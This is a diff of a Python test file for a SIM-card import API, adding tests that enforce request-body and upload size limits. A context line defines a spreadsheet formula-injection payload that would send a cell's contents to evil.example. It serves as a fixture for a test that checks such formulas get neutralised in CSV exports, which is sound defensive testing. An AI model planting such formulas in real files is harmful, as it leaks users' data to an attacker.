@@ -7,13 +7,21 @@ from __future__ import annotations
 import csv
 import io
 import uuid
+from collections.abc import AsyncIterator, Iterable, Iterator
 
 import httpx
+from fastapi import params
+from fastapi.dependencies.models import Dependant
+from fastapi.routing import APIRoute
+from starlette.routing import BaseRoute
 
+from api.app import create_app
+from api.limits import UPLOAD_PATHS
 from domain.enums import SimStatus
 from domain.models import SimCard, SimImport
-from tests.api._security_support import Db
-from tests.api._support import random_iccid, random_imsi
+from infra.settings import Settings
+from tests.api._security_support import Db, bearer, other_app
+from tests.api._support import assert_problem, random_iccid, random_imsi
 from tests.api.conftest import Tenant
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2;"Cliquez ici")'
@@ -85,3 +93,100 @@ async def test_import_error_report_neutralises_formulas(app_client: httpx.AsyncC
         )
     rows = _rows(await app_client.get(f"/api/v1/sims/imports/{batch}/errors.csv", headers=tenant.org_staff))
     assert rows == [["ligne", "iccid", "champ", "motif"], ["2", "'=1+2", "iccid", "'@invalide"]]
+
+
+# --- request body size -----------------------------------------------------------------------------------
+
+
+class Body:
+    """A request body streamed in chunks, counting what the server pulled."""
+
+    def __init__(self, total: int, chunk: int = 64 * 1024, head: bytes = b"") -> None:
+        self.total, self.chunk, self.head, self.pulled = total, chunk, head, 0
+
+    async def __aiter__(self) -> AsyncIterator[bytes]:
+        sent = 0
+        while sent < self.total:
+            piece = (self.head if sent == 0 else b"") + b"x" * self.chunk
+            self.pulled += len(piece)
+            sent += len(piece)
+            yield piece
+
+
+MULTIPART = "multipart/form-data; boundary=simflow-boundary"
+PART_HEAD = (
+    b'--simflow-boundary\r\nContent-Disposition: form-data; name="file"; filename="sims.csv"\r\n'
+    b"Content-Type: text/csv\r\n\r\n"
+)
+
+
+async def test_oversized_upload_is_refused_by_its_length_before_authentication(settings: Settings) -> None:
+    async with other_app(settings, max_upload_body_bytes=100_000) as client:
+        body = Body(total=1_000_000, head=PART_HEAD)
+        response = await client.post(
+            "/api/v1/sims/import",
+            content=body,
+            headers={"Content-Type": MULTIPART, "Content-Length": str(10 * 1024**3)},  # "10 GB", no credentials
+        )
+    assert_problem(response, 413)
+    assert response.json()["code"] == "payload_too_large"
+    assert body.pulled == 0  # refused on the announced length: not one byte read
+
+
+async def test_chunked_upload_is_cut_off_at_the_limit(settings: Settings) -> None:
+    limit = 200_000
+    async with other_app(settings, max_upload_body_bytes=limit) as client:
+        body = Body(total=20 * 1024 * 1024, head=PART_HEAD)  # no Content-Length: chunked
+        response = await client.post("/api/v1/sims/import", content=body, headers={"Content-Type": MULTIPART})
+        assert_problem(response, 413)
+        assert body.pulled <= limit + body.chunk + len(PART_HEAD)
+        portal = Body(total=20 * 1024 * 1024, head=PART_HEAD)
+        page = await client.post("/portal/imports", content=portal, headers={"Content-Type": MULTIPART})
+        assert page.status_code == 413
+        assert portal.pulled <= limit + portal.chunk + len(PART_HEAD)
+
+
+async def test_json_routes_have_a_small_limit_and_file_routes_their_own(
+    settings: Settings, db: Db, tenant: Tenant
+) -> None:
+    async with other_app(settings, max_request_body_bytes=2_000, max_upload_body_bytes=60_000) as client:
+        headers = await bearer(client, tenant.org_staff_email)
+        iccids = [random_iccid() for _ in range(150)]  # about 3.5 kB of JSON
+        export = await client.post("/api/v1/sims/export", json={"iccids": iccids}, headers=headers)
+        assert_problem(export, 413)
+        login = await client.post("/api/v1/auth/token", data={"username": "x" * 3000, "password": "y"})
+        assert_problem(login, 413)
+
+        rows = [f"{random_iccid()};{random_imsi()};12345678;87654321;Orange;non" for _ in range(60)]
+        csv_file = ("iccid;imsi;puk1;puk2;carrier;esim\n" + "\n".join(rows) + "\n").encode()
+        assert 2_000 < len(csv_file) < 60_000
+        imported = await client.post(
+            "/api/v1/sims/import", files={"file": ("sims.csv", csv_file, "text/csv")}, headers=headers
+        )
+        assert imported.status_code == 200, imported.text
+        assert imported.json()["accepted"] == 60
+        too_big = await client.post(
+            "/api/v1/sims/import", files={"file": ("sims.csv", csv_file * 30, "text/csv")}, headers=headers
+        )
+        assert_problem(too_big, 413)
+
+
+def test_every_file_upload_route_has_its_own_limit(settings: Settings) -> None:
+    """A new route taking a file must be listed with the upload limit, or it would refuse every real file."""
+
+    def takes_a_file(dependant: Dependant) -> bool:
+        return any(isinstance(p.field_info, params.File) for p in dependant.body_params) or any(
+            takes_a_file(d) for d in dependant.dependencies
+        )
+
+    def routes(container: Iterable[BaseRoute]) -> Iterator[APIRoute]:
+        for route in container:
+            included = getattr(route, "original_router", None)  # an included router, not flattened
+            if included is not None:
+                yield from routes(included.routes)
+            elif isinstance(route, APIRoute):
+                yield route
+
+    uploads = {route.path for route in routes(create_app(settings).routes) if takes_a_file(route.dependant)}
+    assert uploads == set(UPLOAD_PATHS)
+    assert len(uploads) >= 4
